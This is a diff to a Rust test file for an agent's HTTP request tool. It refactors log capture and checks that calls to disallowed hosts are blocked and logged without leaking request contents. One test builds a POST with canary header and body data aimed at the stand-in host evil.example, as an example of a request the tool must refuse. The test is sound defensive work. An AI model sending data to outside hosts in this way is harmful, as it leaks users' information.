@@ -1,12 +1,10 @@
 //! What a request must not reach, whatever a name leads to.
 
-use std::io;
-use std::sync::{Arc, Mutex};
-
 use serde_json::json;
 
 use super::stand_in::{LOOPBACK, Names, Reply, Server, call, call_with, check_error, request, rules, tools};
 use crate::ports::Tools;
+use crate::testing::{Captured, listen};
 use crate::tools::http_request::{Reach, Resolver, SystemResolver};
 
 #[tokio::test]
@@ -63,34 +61,17 @@ async fn a_method_that_the_agent_may_not_use_is_not_sent() {
     assert_eq!(server.lines(), [] as [String; 0]);
 }
 
-/// What is logged, as text.
-#[derive(Clone, Default)]
-struct Logged(Arc<Mutex<Vec<u8>>>);
-
-impl io::Write for Logged {
-    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
-        self.0.lock().unwrap().write(bytes)
-    }
-
-    fn flush(&mut self) -> io::Result<()> {
-        Ok(())
-    }
-}
-
 #[tokio::test]
 async fn a_blocked_call_is_logged_once_with_its_host_and_nothing_else_of_it() {
-    let logged = Logged::default();
-    let writer = logged.clone();
-    let subscriber = tracing_subscriber::fmt().with_writer(move || writer.clone()).with_ansi(false).finish();
-    let guard = tracing::subscriber::set_default(subscriber);
+    let logged = Captured::default();
+    let _listening = listen(tracing_subscriber::fmt().with_writer(logged.clone()).with_ansi(false).finish());
     let headers = json!({ "x-canary": "canary" });
     let arguments = json!({
         "url": "https://evil.example/canary?canary#canary", "method": "POST", "headers": headers, "body": "canary",
     });
     check_error(&call(rules(), arguments).await, "not one of those");
     check_error(&call(rules(), json!({ "url": "http://nobody.example.org/canary" })).await, "could not be resolved");
-    drop(guard);
-    let text = String::from_utf8(logged.0.lock().unwrap().clone()).unwrap();
+    let text = logged.text();
     let lines: Vec<&str> = text.lines().filter(|line| line.contains("WARN")).collect();
     assert!(lines.len() == 1 && lines[0].ends_with(r#"tool call blocked reason="host" host="evil.example""#), "{text}");
     assert!(!text.contains("canary"), "{text}");
